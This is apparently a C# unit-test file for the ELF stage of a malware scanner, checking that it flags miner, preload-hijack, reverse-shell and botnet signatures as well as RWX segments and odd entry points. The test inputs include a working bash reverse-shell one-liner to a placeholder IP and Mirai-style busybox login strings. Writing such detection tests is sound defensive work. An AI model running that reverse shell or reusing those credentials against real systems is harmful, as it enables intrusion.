using System.Buffers.Binary;
using System.Text;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;

namespace ScanHost.Pipeline.Tests.Stages.Executables;

public sealed class ElfStageTests
{
    private static readonly byte[] Program = File.ReadAllBytes("/bin/true");

    [Theory]
    [InlineData("elf.miner", "stratum+tcp://pool.invalid:3333")]
    [InlineData("elf.preload", "/etc/ld.so.preload")]
    [InlineData("elf.reverse_shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")]
    [InlineData("elf.botnet", "/dev/watchdog /bin/busybox xc3511 vizxv")]
    public async Task Words_that_only_harmful_programs_have_are_found(string finding, string words) =>
        (await Scans.OfAsync([.. Program, .. Encoding.ASCII.GetBytes(words)])).Findings.Select(found => found.Id).Should().Contain(finding);

    [Theory]
    [InlineData("")]
    [InlineData("http://example.invalid/")]
    [InlineData("/bin/busybox")]
    [InlineData("/etc/ld.so.conf")]
    public async Task Words_that_others_have_too_are_not(string words) =>
        (await Scans.OfAsync([.. Program, .. Encoding.ASCII.GetBytes(words)])).Findings.Should().BeEmpty();

    [Fact]
    public async Task Memory_that_may_be_written_and_executed_is_found()
    {
        var file = (byte[])Program.Clone();
        foreach (var at in Segments(file).Where(at => file[at] == 1))
            file[at + 4] = 7;

        (await Scans.OfAsync(file)).Findings.Select(found => found.Id).Should().Contain("elf.rwx");
    }

    [Fact]
    public async Task A_start_outside_of_the_code_is_found()
    {
        var file = (byte[])Program.Clone();
        BinaryPrimitives.WriteUInt64LittleEndian(file.AsSpan(24), 0x7FFF0000);

        (await Scans.OfAsync(file)).Findings.Select(found => found.Id).Should().Contain("elf.entry_odd");
    }

    [Fact]
    public async Task Libraries_of_known_makers_have_no_finding_of_weight()
    {
        foreach (var path in PackageFiles.Elf.Concat(PackageFiles.MachO.Where(path => path.Contains("e_sqlite3", StringComparison.Ordinal))))
        {
            var outcome = await Scans.OfAsync(await File.ReadAllBytesAsync(path));

            outcome.Findings.Where(found => found.Severity > Contracts.Scanning.Severity.Low).Should().BeEmpty(path);
        }
    }

    private static IEnumerable<int> Segments(byte[] file)
    {
        var (start, count) = ((int)BinaryPrimitives.ReadUInt64LittleEndian(file.AsSpan(32)), BinaryPrimitives.ReadUInt16LittleEndian(file.AsSpan(56)));
        return Enumerable.Range(0, count).Select(index => start + (index * 56));
    }
}
